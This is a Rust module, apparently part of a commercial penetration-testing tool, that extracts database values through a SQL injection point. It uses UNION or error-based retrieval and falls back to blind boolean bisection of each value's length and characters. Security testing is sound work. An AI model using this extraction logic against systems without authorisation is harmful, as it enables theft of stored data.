// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Value Extractor
 * Length search and ranked character bisection over a boolean oracle
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary - Enterprise Edition
 */

use crate::alphabet::{Bisection, Leaf};
use crate::cache::fingerprint;
use crate::errors::{EngineError, EngineResult, ExtractionError, OracleError, SelectorError};
use crate::events::ProgressEvent;
use crate::oracle::{InbandValue, OracleAdapter};
use crate::point::InjectionPoint;
use crate::probe::ProbeGate;
use crate::selector::TechniqueCursor;
use crate::session::Session;
use crate::types::{
    Capability, CharsetHint, ExtractedValue, ExtractionJob, JobStatus, Query, ResultShape, Technique,
};
use tracing::{debug, info, warn};

/// Extracts values from one injection point for one run
pub struct Extractor<'a> {
    session: &'a Session,
    point: &'a InjectionPoint,
    gate: &'a ProbeGate,
}

impl<'a> Extractor<'a> {
    pub fn new(session: &'a Session, point: &'a InjectionPoint, gate: &'a ProbeGate) -> Self {
        Self {
            session,
            point,
            gate,
        }
    }

    pub async fn extract(&self, query: Query, max_length: Option<usize>) -> EngineResult<ExtractedValue> {
        let mut job = ExtractionJob::new(query, max_length);
        self.extract_job(&mut job).await
    }

    /// Run or resume `job`. Cached values return without probing; a
    /// concurrent run for the same fingerprint is awaited instead of
    /// duplicated. Values cut at the length limit come back as
    /// [`ExtractedValue::Partial`] and are never cached.
    ///
    /// A job with its own `max_length` never joins another caller's run:
    /// the shared run's limit may differ from the job's.
    pub async fn extract_job(&self, job: &mut ExtractionJob) -> EngineResult<ExtractedValue> {
        let fp = fingerprint(self.point.id(), &job.query);
        job.status = JobStatus::Running;

        let outcome = match job.max_length {
            Some(cap) => self.extract_capped(job, &fp, cap).await,
            None => {
                self.session
                    .cache()
                    .get_or_extract(&fp, self.run(job, &fp))
                    .await
            }
        };

        let outcome = match outcome {
            Err(EngineError::Extraction(ExtractionError::Truncated { prefix, length, .. })) => {
                Ok(ExtractedValue::Partial { prefix, length })
            }
            other => other,
        };

        job.status = if outcome.is_ok() {
            JobStatus::Done
        } else {
            JobStatus::Failed
        };
        outcome
    }

    async fn extract_capped(
        &self,
        job: &mut ExtractionJob,
        fp: &str,
        cap: usize,
    ) -> EngineResult<ExtractedValue> {
        let cache = self.session.cache();
        if let Some(value) = cache.lookup(fp).await {
            return Ok(truncate(value, cap));
        }

        let value = self.run(job, fp).await?;
        if let Err(err) = cache.store(fp, value.clone()).await {
            warn!(fingerprint = fp, error = %err, "Capped run disagrees with cached value");
        }
        Ok(value)
    }

    async fn run(&self, job: &mut ExtractionJob, fp: &str) -> EngineResult<ExtractedValue> {
        let options = self.session.options();
        let oracle = OracleAdapter::new(self.point, self.gate, options, self.session.events());
        let expression = job.query.expression.clone();
        let dialect = self.point.dialect();

        debug!(
            point = self.point.id(),
            fingerprint = fp,
            shape = ?job.query.shape,
            "Starting extraction"
        );

        if job.query.shape == ResultShape::Existence {
            let mut cursor = self.oracle_cursor(job);
            let exists = self
                .ask(&oracle, &mut cursor, &dialect.exists_check(&expression))
                .await?;
            job.technique = cursor.current().ok();
            return Ok(ExtractedValue::Exists(exists));
        }

        if job.length().is_none() && job.prefix().is_empty() {
            if let Some(value) = self.retrieve_direct(&oracle, job).await? {
                return Ok(value);
            }
        }

        let mut cursor = self.oracle_cursor(job);

        let length = match job.length() {
            Some(length) => length,
            None => {
                if self
                    .ask(&oracle, &mut cursor, &dialect.is_null_check(&expression))
                    .await?
                {
                    return Err(ExtractionError::NullValue.into());
                }

                let length = self.resolve_length(&oracle, &mut cursor, &expression).await?;
                job.set_length(length);
                job.technique = cursor.current().ok();
                self.session.events().emit(ProgressEvent::LengthResolved {
                    fingerprint: fp.to_string(),
                    length,
                });
                length
            }
        };

        if length == 0 {
            return match job.query.shape {
                ResultShape::Count => Err(ExtractionError::EmptyValue.into()),
                _ => Ok(ExtractedValue::Text(String::new())),
            };
        }

        let limit = job
            .max_length
            .unwrap_or(options.max_value_length)
            .min(length);

        let (codes, with_outside) = match job.query.shape {
            ResultShape::Count => (CharsetHint::Digits.codes(), false),
            _ => (
                job.query
                    .charset
                    .as_ref()
                    .unwrap_or(&options.charset)
                    .codes(),
                true,
            ),
        };

        for position in job.prefix().len() + 1..=limit {
            let ch = self
                .resolve_char(&oracle, &mut cursor, &expression, position, &codes, with_outside, fp)
                .await?;

            if job.query.shape == ResultShape::Scalar {
                if let Ok(byte) = u8::try_from(ch) {
                    self.session.alphabet().observe(byte);
                }
            }
            job.push(ch);
            job.technique = cursor.current().ok();

            self.session.events().emit(ProgressEvent::PositionResolved {
                fingerprint: fp.to_string(),
                position,
                code: ch as u32,
            });
        }

        if limit < length {
            warn!(
                point = self.point.id(),
                length = length,
                max_length = limit,
                "Value longer than limit, returning partial result"
            );
            return Err(ExtractionError::Truncated {
                prefix: job.prefix_text(),
                length,
                max_length: limit,
            }
            .into());
        }

        let text = job.prefix_text();
        info!(
            point = self.point.id(),
            fingerprint = fp,
            length = length,
            "Value extracted"
        );
        shape_value(job.query.shape, text)
    }

    /// UNION / error-based read. `Ok(None)` means fall back to bisection.
    async fn retrieve_direct(
        &self,
        oracle: &OracleAdapter<'_>,
        job: &mut ExtractionJob,
    ) -> EngineResult<Option<ExtractedValue>> {
        let options = self.session.options();
        let mut cursor = self.session.selector().cursor(
            self.point,
            Capability::DirectRetrieval,
            options.technique_failure_budget,
        );

        while let Ok(technique) = cursor.current() {
            let mut attempts = 0u32;
            let outcome = loop {
                match oracle.retrieve(technique, &job.query.expression).await {
                    Ok(value) => break Some(value),
                    Err(OracleError::Ambiguous { .. }) => {
                        debug!(
                            point = self.point.id(),
                            technique = %technique,
                            "No in-band markers in response"
                        );
                        break None;
                    }
                    Err(err) if err.is_retryable() && attempts < options.position_retry_limit => {
                        attempts += 1;
                        debug!(
                            point = self.point.id(),
                            technique = %technique,
                            attempt = attempts,
                            error = %err,
                            "Retrying direct retrieval"
                        );
                    }
                    Err(err) if err.is_retryable() => break None,
                    Err(err) => return Err(err.into()),
                }
            };

            match outcome {
                Some(InbandValue::Null) => return Err(ExtractionError::NullValue.into()),
                Some(InbandValue::Text(text)) => {
                    job.technique = Some(technique);
                    return self.direct_value(job, text).map(Some);
                }
                None => match cursor.skip()? {
                    Some(SelectorError::TechniqueDegraded { from, to }) => self.switched(from, to),
                    _ => break,
                },
            }
        }

        Ok(None)
    }

    fn direct_value(&self, job: &ExtractionJob, text: String) -> EngineResult<ExtractedValue> {
        if job.query.shape == ResultShape::Scalar {
            let seen: Vec<u8> = text.chars().filter_map(|c| u8::try_from(c).ok()).collect();
            self.session.alphabet().seed(&seen);

            let length = text.chars().count();
            let limit = job
                .max_length
                .unwrap_or(self.session.options().max_value_length);
            if length > limit {
                return Err(ExtractionError::Truncated {
                    prefix: text.chars().take(limit).collect(),
                    length,
                    max_length: limit,
                }
                .into());
            }
        }

        shape_value(job.query.shape, text)
    }

    fn oracle_cursor(&self, job: &ExtractionJob) -> TechniqueCursor {
        self.session
            .selector()
            .cursor(
                self.point,
                Capability::BooleanOracle,
                self.session.options().technique_failure_budget,
            )
            .resume_at(job.technique)
    }

    /// One decision with local retries. Technique faults count against
    /// the cursor, which may move to the next candidate.
    async fn ask(
        &self,
        oracle: &OracleAdapter<'_>,
        cursor: &mut TechniqueCursor,
        condition: &str,
    ) -> EngineResult<bool> {
        let limit = self.session.options().position_retry_limit;
        let mut attempts = 0u32;

        loop {
            let technique = cursor.current()?;
            let err = match oracle.decide(technique, condition).await {
                Ok(answer) => {
                    cursor.record_success();
                    return Ok(answer);
                }
                Err(err) => err,
            };

            if let Some(SelectorError::TechniqueDegraded { from, to }) = cursor.record_failure(&err)? {
                self.switched(from, to);
                attempts = 0;
                continue;
            }

            if !err.is_retryable() || attempts >= limit {
                return Err(err.into());
            }
            attempts += 1;

            debug!(
                point = self.point.id(),
                technique = %technique,
                attempt = attempts,
                error = %err,
                "Retrying oracle decision"
            );
        }
    }

    /// Exponential search for an upper bound, then binary search inside it
    async fn resolve_length(
        &self,
        oracle: &OracleAdapter<'_>,
        cursor: &mut TechniqueCursor,
        expression: &str,
    ) -> EngineResult<usize> {
        let dialect = self.point.dialect();
        let length_expr = dialect.length_of(expression);

        let mut lo = 0u64;
        let mut hi = 1u64;
        while self
            .ask(oracle, cursor, &dialect.greater_than(&length_expr, hi))
            .await?
        {
            lo = hi + 1;
            hi = hi.checked_mul(2).ok_or_else(|| {
                ExtractionError::Malformed("length exceeds addressable range".to_string())
            })?;
        }

        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            if self
                .ask(oracle, cursor, &dialect.greater_than(&length_expr, mid))
                .await?
            {
                lo = mid + 1;
            } else {
                hi = mid;
            }
        }

        usize::try_from(lo).map_err(|_| {
            ExtractionError::Malformed(format!("length {} exceeds addressable range", lo)).into()
        })
    }

    #[allow(clippy::too_many_arguments)]
    async fn resolve_char(
        &self,
        oracle: &OracleAdapter<'_>,
        cursor: &mut TechniqueCursor,
        expression: &str,
        position: usize,
        codes: &[u8],
        with_outside: bool,
        fp: &str,
    ) -> EngineResult<char> {
        let dialect = self.point.dialect();
        let code_expr = dialect.char_code_at(expression, position);
        let mut search = Bisection::new(self.session.alphabet().rank(codes), with_outside);

        let leaf = loop {
            if let Some(leaf) = search.resolved() {
                break leaf;
            }
            let set = search.probe_set();
            let answer = self
                .ask(oracle, cursor, &dialect.in_set(&code_expr, &set))
                .await
                .map_err(|e| exhausted_at(e, position))?;
            search.apply(answer);
        };

        match leaf {
            Leaf::Code(code) => Ok(char::from(code)),
            Leaf::Outside => {
                warn!(
                    point = self.point.id(),
                    position = position,
                    "Character outside active alphabet, searching full code point range"
                );
                self.session.events().emit(ProgressEvent::CharsetDegraded {
                    fingerprint: fp.to_string(),
                    position,
                });

                let byte_range = self
                    .search_code(oracle, cursor, &code_expr, 0, u8::MAX as u32, position)
                    .await?;
                let code = match byte_range {
                    Some(code) => Some(code),
                    None => {
                        self.search_code(
                            oracle,
                            cursor,
                            &code_expr,
                            u8::MAX as u32 + 1,
                            char::MAX as u32,
                            position,
                        )
                        .await?
                    }
                };

                code.and_then(char::from_u32)
                    .ok_or_else(|| ExtractionError::CharsetExhausted { position }.into())
            }
        }
    }

    /// Binary search with `>` over `lo..=hi`. `None` when the code lies
    /// above `hi`, which costs one extra probe once the search pins `hi`.
    async fn search_code(
        &self,
        oracle: &OracleAdapter<'_>,
        cursor: &mut TechniqueCursor,
        code_expr: &str,
        mut lo: u32,
        mut hi: u32,
        position: usize,
    ) -> EngineResult<Option<u32>> {
        let dialect = self.point.dialect();
        let ceiling = hi;

        while lo < hi {
            let mid = lo + (hi - lo) / 2;
            let above = self
                .ask(oracle, cursor, &dialect.greater_than(code_expr, mid as u64))
                .await
                .map_err(|e| exhausted_at(e, position))?;
            if above {
                lo = mid + 1;
            } else {
                hi = mid;
            }
        }

        if lo == ceiling
            && self
                .ask(oracle, cursor, &dialect.greater_than(code_expr, ceiling as u64))
                .await
                .map_err(|e| exhausted_at(e, position))?
        {
            return Ok(None);
        }
        Ok(Some(lo))
    }

    fn switched(&self, from: Technique, to: Technique) {
        self.session.events().emit(ProgressEvent::TechniqueSwitched {
            point: self.point.id().to_string(),
            from,
            to,
        });
    }
}

/// Persistent ambiguity at a bisection step gives up on that position
fn exhausted_at(err: EngineError, position: usize) -> EngineError {
    match err {
        EngineError::Oracle(OracleError::Ambiguous { .. }) => {
            ExtractionError::CharsetExhausted { position }.into()
        }
        other => other,
    }
}

/// Cut a complete value down to `cap` characters
fn truncate(value: ExtractedValue, cap: usize) -> ExtractedValue {
    match value {
        ExtractedValue::Text(text) => {
            let length = text.chars().count();
            if length > cap {
                ExtractedValue::Partial {
                    prefix: text.chars().take(cap).collect(),
                    length,
                }
            } else {
                ExtractedValue::Text(text)
            }
        }
        other => other,
    }
}

fn shape_value(shape: ResultShape, text: String) -> EngineResult<ExtractedValue> {
    match shape {
        ResultShape::Scalar => Ok(ExtractedValue::Text(text)),
        ResultShape::Count => {
            let trimmed = text.trim();
            if trimmed.is_empty() {
                return Err(ExtractionError::EmptyValue.into());
            }
            trimmed
                .parse::<u64>()
                .map(ExtractedValue::Count)
                .map_err(|_| ExtractionError::Malformed(format!("not a count: {:?}", text)).into())
        }
        ResultShape::Existence => match text.trim() {
            "1" | "true" | "t" => Ok(ExtractedValue::Exists(true)),
            "0" | "false" | "f" => Ok(ExtractedValue::Exists(false)),
            _ => Err(ExtractionError::Malformed(format!("not a boolean: {:?}", text)).into()),
        },
    }
}
